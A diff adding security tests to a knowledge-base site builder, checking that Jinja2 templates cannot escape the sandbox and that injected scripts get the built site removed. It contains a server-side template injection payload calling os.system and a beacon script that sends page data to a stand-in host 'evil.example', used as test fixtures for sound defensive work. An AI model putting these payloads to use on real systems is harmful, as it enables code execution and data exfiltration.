@@ -84,3 +84,61 @@ def test_a_python_file_of_the_kb_is_never_imported_as_an_extension(tmp_path: Pat
     assert "Failed to load extension 'evil'" in built.stderr
     assert "Traceback" not in built.stderr
     assert not marker.exists()
+
+
+ESCAPE = "{{{{ cycler.__init__.__globals__.os.system('touch {marker}') }}}}"
+
+
+def test_a_page_template_of_the_kb_cannot_reach_python(tmp_path: Path) -> None:
+    marker = tmp_path / "ran"
+    template = "---\ntitle: x\n---\n\n# {{ p.name }}\n\n" + ESCAPE.format(marker=marker) + "\n"
+    root = write_kb(tmp_path / "kb", {**JANE, "templates/person.md.j2": template})
+    built = run_netkb(root, "build")
+    assert built.returncode == 1 and "Traceback" not in built.stderr
+    assert "templates/person.md.j2:7: template error: access to attribute '__init__'" in (
+        built.stderr
+    )
+    assert not marker.exists()
+    # The same template without the escape renders, in the sandbox.
+    (root / "templates/person.md.j2").write_text(template.replace(ESCAPE.format(marker=marker), ""))
+    assert run_netkb(root, "build", "-q").returncode == 0
+    assert "Jane Doe" in (root / "site/people/jane-doe/index.html").read_text()
+
+
+def test_a_theme_template_of_the_kb_cannot_reach_python(tmp_path: Path) -> None:
+    marker = tmp_path / "ran"
+    robots = '<meta name="robots" content="noindex,nofollow">'
+    main = "{% extends 'base.html' %}\n{% block extrahead %}" + robots + "{{}}{% endblock %}\n"
+    config = "site_name: T\ntheme:\n  name: material\n  custom_dir: theme\n"
+    files = {**JANE, "theme/main.html": main.replace("{{}}", ESCAPE.format(marker=marker))}
+    root = write_kb(tmp_path / "kb", files, config)
+    built = run_netkb(root, "build")
+    assert built.returncode == 1 and "Traceback" not in built.stderr
+    assert "access to attribute '__init__' of 'type' object is unsafe" in built.stderr
+    assert not marker.exists()
+    (root / "theme/main.html").write_text(main.replace("{{}}", ""))
+    assert run_netkb(root, "build", "-q").returncode == 0  # Material renders in the sandbox
+    assert robots in (root / "site/people/jane-doe/index.html").read_text()
+
+
+def test_a_script_that_is_not_the_themes_own_removes_the_site(tmp_path: Path) -> None:
+    # What a script does cannot be read from its text: this one names no host outright.
+    beacon = "fetch('htt' + 'ps://evil.example/' + document.title)\n"
+    robots = '<meta name="robots" content="noindex,nofollow">'
+    main = "{% extends 'base.html' %}\n{% block extrahead %}" + robots + "{% endblock %}\n"
+    config = (
+        "site_name: T\ntheme:\n  name: material\n  custom_dir: theme\n"
+        "extra_javascript:\n  - beacon.js\n"
+    )
+    files = {**JANE, "theme/main.html": main, "theme/beacon.js": beacon}
+    root = write_kb(tmp_path / "kb", files, config)
+    built = run_netkb(root, "build")
+    assert built.returncode == 1
+    assert "site/beacon.js: is a script that is not the theme's own" in built.stderr
+    assert "so it was deleted" in built.stderr
+    assert not (root / "site").exists()
+    # Material's own scripts pass: the same theme folder without the beacon builds.
+    (root / "theme/beacon.js").unlink()
+    (root / "mkdocs.yml").write_text(config.split("extra_javascript")[0])
+    assert run_netkb(root, "build", "-q").returncode == 0
+    assert list((root / "site/assets/javascripts").rglob("*.js"))
